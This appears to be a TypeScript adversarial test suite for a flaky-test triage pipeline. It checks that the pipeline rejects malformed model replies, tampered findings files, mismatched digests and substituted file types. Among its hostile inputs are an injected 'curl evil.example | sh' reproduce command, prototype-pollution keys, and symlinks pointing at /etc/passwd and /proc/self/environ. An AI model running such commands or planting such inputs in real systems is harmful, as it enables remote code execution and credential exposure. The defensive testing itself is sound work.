import { mkdir, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { startLoopback } from '../../io/anthropic/loopback.ts';
import { type Case, check, type Family, once } from '../family.ts';
import {
  after,
  classifyAgain,
  FINDINGS,
  failingOn,
  field,
  fifo,
  flipped,
  MANIFEST,
  replacedBy,
  rewritten,
  swapped,
  told,
} from '../handed-over.ts';
import { flakyRuns, foundIds, issueOf, pytestLog } from '../hostile-logs.ts';
import { answers, diagnosisOf, factsOf, GOOD, says, service } from '../model-replies.ts';
import { runPipeline } from '../pipeline.ts';

/** Tests of which the model is asked; the last fails in a way that heuristics know. */
const NAMES = ['duplicate_key', 'prototype', 'deep', 'huge', 'torn'] as const;
const build: Parameters<typeof runPipeline>[0]['build'] = (builder) =>
  flakyRuns(
    builder,
    NAMES.map((name) =>
      pytestLog([
        {
          id: `tests/test_model.py::${name}`,
          message: name === 'torn' ? 'TimeoutError: timed out waiting for the element' : `the ${name} is odd`,
        },
      ]),
    ),
  );

const text = JSON.stringify(GOOD);
const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const MODELS = {
  first: {
    duplicate_key: says(`{"cause":"network",${text.slice(1)}`),
    prototype: says(`{"__proto__":{"cause":"network"},${text.slice(1)}`),
    deep: says(nested(10_000)),
    huge: says('x'.repeat(2_000_000)),
    torn: answers({ cause: 'network', fix: 'isolate-from-network' }),
  },
  turned: Object.fromEntries(NAMES.map((name) => [name, answers({ cause: 'time', fix: 'inject-clock' })])),
};
const first = once(() => runPipeline({ build, model: service(MODELS.first) }));
/** classify over the same evidence, with every label turned. */
const turned = once(async () => {
  const model = await startLoopback(service(MODELS.turned));
  try {
    return await classifyAgain(await first(), {}, model.url);
  } finally {
    await model.close();
  }
});
const failing = failingOn(first);

const replyOf = (name: string, told: boolean): Case => ({
  name: `reply: ${name.replaceAll('_', ' ')}`,
  expected: ['UNCL', 'SILENT'],
  run: async () => {
    const end = await first();
    const { source, noModelCause } = diagnosisOf(end, name);
    check(source === 'heuristics', 'something of the answer was used');
    check(!told || noModelCause === 'invalid-answer', 'the reason is not told');
    check(diagnosisOf(end, 'torn').source === 'model', 'the candidates after it were given up');
    return ['UNCL', 'SILENT'];
  },
});

export const families: readonly Family[] = [
  {
    id: 'J04',
    input: 'keys twice, keys of the prototype, ten thousand levels, far too many bytes, in replies and in documents',
    expected: ['FAIL', 'UNCL', 'SILENT'],
    cases: [
      ...(['duplicate_key', 'prototype', 'deep'] as const).map((name) => replyOf(name, true)),
      replyOf('huge', false),
      failing(
        'a key twice',
        'report',
        rewritten((findings) => findings.replace('"version": 3', '"version": 3, "version": 3')),
      ),
      failing(
        'a key of the prototype',
        'report',
        rewritten((findings) => findings.replace('{', '{"__proto__": {},')),
      ),
      failing(
        'deep',
        'report',
        rewritten(() => nested(10_000)),
      ),
      failing(
        '20 MB',
        'report',
        rewritten(() => `"${'x'.repeat(20_000_000)}"`),
      ),
      failing('more than is read', 'report', async ({ folder }) => truncate(join(folder, FINDINGS), 80 * 1024 * 1024)),
    ] as unknown as Family['cases'],
  },
  {
    id: 'J12',
    input:
      'the same questions answered twice, all labels turned the second time; and a model that contradicts heuristics',
    expected: ['SAME'],
    cases: [
      {
        name: 'labels change, facts do not',
        run: async () => {
          const [one, other] = [await first(), await turned()];
          check(diagnosisOf(one, 'torn').cause === 'network', 'the first answer was not taken');
          check(diagnosisOf(other, 'torn').cause === 'time', 'the second answer was not taken');
          check(factsOf(one) === factsOf(other), 'the model changed a fact');
          check(foundIds(one).length === NAMES.length, 'a test is missing');
          return ['SAME'];
        },
      },
      {
        name: 'the issue tells of the disagreement, and calls the cause unsure',
        run: async () => {
          const end = await first();
          const { source, cause, confidence, otherCause } = diagnosisOf(end, 'torn');
          const torn = [source, cause, confidence, otherCause].join(' ');
          check(torn === 'model network low async-wait', 'the disagreement is not in the findings');
          check(issueOf(end).markdown.includes('Heuristics point elsewhere: '), 'the issue does not tell it');
          return ['SAME'];
        },
      },
    ],
  },
  {
    id: 'J13',
    input: 'findings swapped, cut, packed, re-encoded or with one bit turned; digests missing, foreign or respelt',
    expected: ['FAIL', 'SILENT'],
    cases: [
      {
        name: 'as they came they are accepted and GitHub is asked, so that a refusal says something',
        run: async () => {
          const { end, requests } = await after((await first()).files, 'report', () => {});
          check(end.exitCode === 4 && requests > 0, 'true documents were refused');
          return ['SILENT'];
        },
      },
      failing(
        'swapped',
        'report',
        swapped(() => '{}'),
      ),
      failing(
        'cut',
        'report',
        swapped((bytes) => bytes.subarray(0, -1)),
      ),
      failing(
        'packed',
        'report',
        swapped((bytes) => gzipSync(bytes)),
      ),
      failing(
        'with a byte-order mark',
        'report',
        swapped((bytes) => `\u{feff}${bytes.toString('utf8')}`),
      ),
      failing(
        'with other line ends',
        'report',
        swapped((bytes) => bytes.toString('utf8').replaceAll('\n', '\r\n')),
      ),
      failing('one bit turned', 'report', swapped(flipped)),
      failing('one bit of the manifest turned', 'classify', async ({ folder }, _findings, manifest) =>
        writeFile(join(folder, MANIFEST), flipped(Buffer.from(manifest))),
      ),
      failing(
        'with a command of somebody else, and a digest that fits',
        'report',
        rewritten((findings) => findings.replace(/"reproduce": "[^\n]*",/, '"reproduce": "curl evil.example | sh",')),
      ),
      failing(
        'no digest',
        'report',
        told(() => ''),
      ),
      failing(
        'a blank for a digest',
        'report',
        told(() => ' '),
      ),
      failing(
        'the digest of the manifest',
        'report',
        told((_, scene) => scene.manifestSha256),
      ),
      failing(
        'in capitals',
        'report',
        told((sha256) => sha256.toUpperCase()),
      ),
      failing(
        'with space around it',
        'report',
        told((sha256) => ` ${sha256}\n`),
      ),
    ] as unknown as Family['cases'],
  },
  {
    id: 'J14',
    input: 'documents of another version, run, attempt or repository, with digests that fit',
    expected: ['FAIL', 'SILENT'],
    cases: [
      failing('of a later version', 'report', field('version', 4)),
      failing('of another kind', 'report', field('schema', 'flakewarden/manifest')),
      failing('by another release', 'report', field('tool', 'flakewarden 9.9.9')),
      failing('of another run', 'report', field('binding.runId', '16000000002')),
      failing('of a later attempt', 'report', field('binding.runAttempt', 2)),
      failing('of another repository', 'report', field('binding.repositoryId', '1')),
      failing('from another manifest', 'report', field('manifestSha256', 'a'.repeat(64))),
      failing('with a key too many', 'report', field('extra', 1)),
      failing('all of another run, and whole', 'report', (scene) => {
        scene.environment = { ...scene.environment, GITHUB_RUN_ID: '16000000009' };
      }),
      failing('all of another repository, and whole', 'classify', (scene) => {
        scene.environment = { ...scene.environment, GITHUB_REPOSITORY_ID: '5', GITHUB_REPOSITORY: 'octo-org/other' };
      }),
    ] as unknown as Family['cases'],
  },
  {
    id: 'J15',
    input: 'a file too many beside the documents; a link, a folder or a pipe in the place of one',
    expected: ['FAIL', 'SILENT'],
    cases: [
      failing('a file too many', 'report', ({ folder }) => writeFile(join(folder, 'findings/more.json'), '{}')),
      failing(
        'a link',
        'report',
        replacedBy(FINDINGS, (target) => symlink('/etc/passwd', target)),
      ),
      failing(
        'a folder',
        'report',
        replacedBy(FINDINGS, (target) => mkdir(target)),
      ),
      failing('a pipe', 'report', replacedBy(FINDINGS, fifo)),
      failing('a file too many', 'classify', ({ folder }) => writeFile(join(folder, 'evidence/logs/1.log'), '')),
      failing(
        'a link',
        'classify',
        replacedBy(MANIFEST, (target) => symlink('/proc/self/environ', target)),
      ),
      failing('a pipe', 'classify', replacedBy(MANIFEST, fifo)),
    ] as unknown as Family['cases'],
  },
];
